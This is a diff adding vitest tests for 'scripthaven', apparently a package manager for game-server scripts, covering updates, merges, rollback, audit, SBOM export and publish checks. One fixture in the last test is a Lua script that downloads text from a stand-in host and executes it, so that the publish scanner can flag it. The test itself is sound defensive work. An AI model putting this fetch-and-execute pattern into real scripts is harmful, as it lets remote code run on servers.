@@ -1,0 +1,273 @@
+import { existsSync } from 'node:fs'
+import { cp, readdir, rm } from 'node:fs/promises'
+
+import { expect, test } from 'vitest'
+
+import { createGameServer, publishScript, publishVersion, resourceFiles } from '#test-support/game-server.ts'
+import { startTestApp } from '#test-support/test-app.ts'
+
+const app = await startTestApp()
+const author = await app.createUser('scripts.upload', 'scripts.download')
+
+let count = 0
+const config = (price: number, extra = '') =>
+  `Config = {}\nConfig.Price = ${price}\n\n\nConfig.Colour = 'red'\n${extra}`
+
+/** A script with two versions on the hub, of which a server has the first. */
+async function outdatedServer(secondFiles: Record<string, string>, firstFiles: Record<string, string> = {}) {
+  const name = `pier${++count}`
+  const server = await createGameServer({ token: author.token })
+  const first = { 'config.lua': config(10), 'sql/pier.sql': 'create table pier (id int);\n', ...firstFiles }
+  const { id, versionId } = await publishScript(
+    app,
+    author,
+    `Pier ${count}`,
+    resourceFiles(name, { files: first }),
+  )
+  await server.run('init', app.url)
+  await setCooldown(server, '0d')
+  const added = await server.run('add', String(id), '--yes')
+  expect([added.code, added.stderr]).toEqual([0, ''])
+  const second = await publishVersion(
+    app,
+    author,
+    id,
+    '1.1.0',
+    resourceFiles(name, { files: { 'config.lua': config(10), ...secondFiles } }),
+  )
+  const file = (path: string) => `resources/[scripthaven]/${name}/${path}`
+  return { server, id, name, file, versionId, secondId: second.versionId }
+}
+
+async function setCooldown(server: Awaited<ReturnType<typeof createGameServer>>, cooldown: string) {
+  const project = JSON.parse(await server.read('scripthaven.json'))
+  await server.write('scripthaven.json', `${JSON.stringify({ ...project, cooldown }, null, 2)}\n`)
+}
+
+test('outdated shows the changelog and exits with 1; update installs it and keeps nothing back', async () => {
+  const { server, id, file } = await outdatedServer({ 'new.lua': "print('new')\n" })
+
+  const outdated = await server.run('outdated')
+  const update = await server.run('update', '--yes')
+
+  expect(outdated).toMatchObject({
+    code: 1,
+    stdout: expect.stringMatching(/1\.0\.0 → 1\.1\.0[^]*Changes of 1\.1\.0/),
+  })
+  expect([update.code, update.stderr]).toEqual([0, ''])
+  expect(await server.read(file('new.lua'))).toBe("print('new')\n")
+  expect(JSON.parse(await server.read('scripthaven.lock')).scripts[id].version).toBe('1.1.0')
+  expect(await server.run('outdated')).toMatchObject({ code: 0 })
+})
+
+test('a version younger than the cooldown is skipped', async () => {
+  const { server } = await outdatedServer({ 'new.lua': 'new' })
+  await setCooldown(server, '3d')
+
+  expect(await server.run('update', '--yes')).toMatchObject({
+    code: 0,
+    stdout: expect.stringContaining('up to date'),
+  })
+})
+
+test('a version that can do more than before needs an answer of its own', async () => {
+  const { server, id } = await outdatedServer({
+    'server.lua': "PerformHttpRequest('https://a.example', print)\n",
+  })
+
+  const refused = await server.run('update', '--yes')
+
+  expect(refused).toMatchObject({ code: 3, stderr: expect.stringContaining('can do more than before') })
+  expect(JSON.parse(await server.read('scripthaven.lock')).scripts[id].version).toBe('1.0.0')
+  expect(await server.run('update', '--yes', '--accept-capabilities')).toMatchObject({ code: 0, stderr: '' })
+})
+
+test('changed configuration is merged with the new version, and added files stay', async () => {
+  const { server, file } = await outdatedServer({ 'config.lua': config(10, 'Config.Added = true\n') })
+  await server.write(file('config.lua'), config(99))
+  await server.write(file('data/players.json'), '{"mine":1}')
+
+  const { code, stdout } = await server.run('update', '--yes')
+
+  expect([code, stdout]).toEqual([0, expect.stringContaining('Merged your changes')])
+  expect(await server.read(file('config.lua'))).toBe(config(99, 'Config.Added = true\n'))
+  expect(await server.read(file('data/players.json'))).toBe('{"mine":1}')
+})
+
+test('line ends of Windows stay after a merge', async () => {
+  const { server, file } = await outdatedServer({ 'config.lua': config(10, 'Config.Added = true\n') })
+  await server.write(file('config.lua'), config(99).replaceAll('\n', '\r\n'))
+
+  await server.run('update', '--yes')
+
+  expect(await server.read(file('config.lua'))).toBe(
+    config(99, 'Config.Added = true\n').replaceAll('\n', '\r\n'),
+  )
+})
+
+test('where both changed the same lines, the file of the owner stays and the new one is beside it', async () => {
+  const { server, file } = await outdatedServer({ 'config.lua': config(20) })
+  await server.write(file('config.lua'), config(99))
+
+  const { code, stderr } = await server.run('update', '--yes')
+
+  expect([code, stderr]).toEqual([0, expect.stringContaining('config.lua. The new one is beside it as .new')])
+  expect(await server.read(file('config.lua'))).toBe(config(99))
+  expect(await server.read(file('config.lua.new'))).toBe(config(20))
+})
+
+test('another changed file stops the update until --overwrite, and rollback brings it back', async () => {
+  const { server, id, name, file } = await outdatedServer({ 'server.lua': "print('second')\n" })
+  await server.write(file('server.lua'), "print('mine')\n")
+
+  const stopped = await server.run('update', '--yes')
+
+  expect([stopped.code, stopped.stderr]).toEqual([3, expect.stringContaining(`${name}/server.lua`)])
+  expect(await server.read(file('server.lua'))).toBe("print('mine')\n")
+  expect(JSON.parse(await server.read('scripthaven.lock')).scripts[id].version).toBe('1.0.0')
+  expect(await server.run('update', '--yes', '--overwrite')).toMatchObject({ code: 0 })
+  expect(await server.read(file('server.lua'))).toBe("print('second')\n")
+
+  expect(await server.run('rollback')).toMatchObject({ code: 0 })
+  expect(await server.read(file('server.lua'))).toBe("print('mine')\n")
+  expect(JSON.parse(await server.read('scripthaven.lock')).scripts[id].version).toBe('1.0.0')
+  expect(await server.run('rollback')).toMatchObject({ code: 0 })
+  expect(await server.read(file('server.lua'))).toBe("print('second')\n")
+})
+
+test('sync puts a missing file back, and a second one changes nothing and downloads nothing', async () => {
+  const { server, file } = await outdatedServer({})
+  await rm(server.path(file('server.lua')))
+
+  expect(await server.run('sync')).toMatchObject({ code: 0, stdout: expect.stringContaining('Installed') })
+  expect(existsSync(server.path(file('server.lua')))).toBe(true)
+  // Without a token nothing could be downloaded.
+  expect(await server.runWith({ SCRIPTHAVEN_TOKEN: '' }, 'sync', '--frozen')).toEqual({
+    code: 0,
+    stdout: 'Everything is up to date.\n',
+    stderr: '',
+  })
+})
+
+test('the lock alone installs the same bytes on another server', async () => {
+  const { server, file } = await outdatedServer({})
+  const other = await createGameServer({ token: author.token })
+  for (const name of ['scripthaven.json', 'scripthaven.lock'])
+    await other.write(name, await server.read(name))
+
+  expect(await other.run('sync', '--frozen')).toMatchObject({ code: 0, stderr: '' })
+  for (const name of ['scripthaven.lock', 'scripthaven.cfg', file('server.lua')])
+    expect(await other.read(name)).toBe(await server.read(name))
+})
+
+test('audit names changed, added and missing files, and a version that was withdrawn', async () => {
+  const { server, versionId, name, file } = await outdatedServer({})
+  expect(await server.run('audit')).toMatchObject({ code: 0 })
+  await server.write(file('config.lua'), 'mine')
+  await server.write(file('extra.lua'), 'mine')
+  await rm(server.path(file('server.lua')))
+  await app.request(author, 'POST', `/api/versions/${versionId}/withdraw`, {
+    kind: 'security',
+    reason: 'It leaks the keys of the server.',
+  })
+
+  const { code, stdout } = await server.run('audit')
+  const json = JSON.parse((await server.run('audit', '--json')).stdout)
+
+  expect(code).toBe(1)
+  expect(stdout).toMatch(/high .*was withdrawn \(security\): It leaks the keys/)
+  expect(json).toEqual(
+    expect.arrayContaining([
+      expect.objectContaining({ what: 'missing', text: expect.stringContaining(`${name}/server.lua`) }),
+      expect.objectContaining({ what: 'changed', text: expect.stringContaining(`${name}/config.lua`) }),
+      expect.objectContaining({ what: 'added', text: expect.stringContaining(`${name}/extra.lua`) }),
+    ]),
+  )
+})
+
+test('sql lists a file with its text until it is confirmed, and again when it has changed', async () => {
+  const { server } = await outdatedServer({ 'sql/pier.sql': 'create table pier (id bigint);\n' })
+
+  expect((await server.run('sql')).stdout).toMatch(
+    /-- new: pier\d+\/sql\/pier\.sql, of Pier \d+\ncreate table pier \(id int\);/,
+  )
+  await server.run('sql', '--confirm')
+  expect((await server.run('sql')).stdout).toBe('No SQL file is new or changed.\n')
+  await server.run('update', '--yes')
+  expect((await server.run('sql')).stdout).toMatch(/-- changed: [^]*id bigint/)
+})
+
+test('list, why, export and remove know what needs what', async () => {
+  const library = await publishScript(app, author, 'Pier library', resourceFiles('pier_lib'))
+  const user = await publishScript(
+    app,
+    author,
+    'Pier user',
+    resourceFiles('pier_user', { needs: ['pier_lib', 'oxmysql'] }),
+    { license: 'MIT' },
+  )
+  const server = await createGameServer({ token: author.token })
+  await server.run('init', app.url)
+  await server.run('add', String(user.id), '--yes')
+
+  const why = await server.run('why', 'pier_lib')
+  const bom = JSON.parse((await server.run('export')).stdout)
+  const csv = await server.run('export', '--format', 'csv')
+
+  expect((await server.run('list')).stdout).toMatch(
+    /Pier library 1\.0\.0 .*\(needed by others\)\n.*Pier user/,
+  )
+  expect(why.stdout).toMatch(/Pier library .* ← Pier user .* ← scripthaven\.json/)
+  expect((await server.run('why', 'oxmysql')).stdout).toMatch(/oxmysql ← Pier user/)
+  expect(bom).toMatchObject({
+    bomFormat: 'CycloneDX',
+    specVersion: '1.6',
+    components: [{ name: 'Pier library' }, { name: 'Pier user', licenses: [{ license: { id: 'MIT' } }] }],
+  })
+  expect(csv.stdout.split('\r\n')).toHaveLength(4)
+  expect(await server.run('remove', 'pier_lib')).toMatchObject({
+    code: 2,
+    stderr: expect.stringContaining('Pier user needs it'),
+  })
+  expect(await server.run('remove', String(user.id))).toMatchObject({ code: 0 })
+  expect(await readdir(server.installed())).toEqual([])
+  expect(JSON.parse(await server.read('scripthaven.lock')).scripts).toEqual({})
+  expect(await server.run('add', String(library.id), '--yes')).toMatchObject({ code: 0 })
+})
+
+test('init --from-disk recognises installed resources with changed files, and sync takes the changes over', async () => {
+  const { server: source, id, name, file } = await outdatedServer({ 'new.lua': 'new' })
+  const server = await createGameServer({ token: author.token })
+  await cp(source.installed(name), server.path('resources/[old]', name), { recursive: true })
+  await server.write(`resources/[old]/${name}/config.lua`, config(77))
+
+  const init = await server.run('init', app.url, '--from-disk')
+  const sync = await server.run('sync')
+
+  expect([init.code, init.stderr, init.stdout]).toEqual([
+    0,
+    '',
+    expect.stringMatching(new RegExp(`${id} Pier \\d+ 1\\.0\\.0`)),
+  ])
+  expect([sync.code, sync.stderr]).toEqual([0, expect.stringContaining(`The server also has ${name} in`)])
+  expect(await server.read(file('config.lua'))).toBe(config(77))
+})
+
+test('publish --check fails on a finding, and publish adds a version with its report', async () => {
+  const { server, id, name } = await outdatedServer({})
+  const manifest = `fx_version 'cerulean'\ngame 'gta5'\nscripthaven '${id}'\nversion '3.0.0'\nserver_script 'server.lua'\n`
+  await server.write(`work/${name}/fxmanifest.lua`, manifest)
+  await server.write(
+    `work/${name}/server.lua`,
+    "PerformHttpRequest('https://a.example', function(_, text)\n  load(text)()\nend)\n",
+  )
+
+  expect(await server.run('publish', `work/${name}`, '--check', '--fail-on', 'high')).toMatchObject({
+    code: 1,
+    stdout: expect.stringContaining('runs-downloaded-code'),
+  })
+  await server.write(`work/${name}/server.lua`, "print('third')\n")
+  expect(await server.run('publish', `work/${name}`, '--check', '--fail-on', 'high')).toMatchObject({
+    code: 0,
+  })
+})
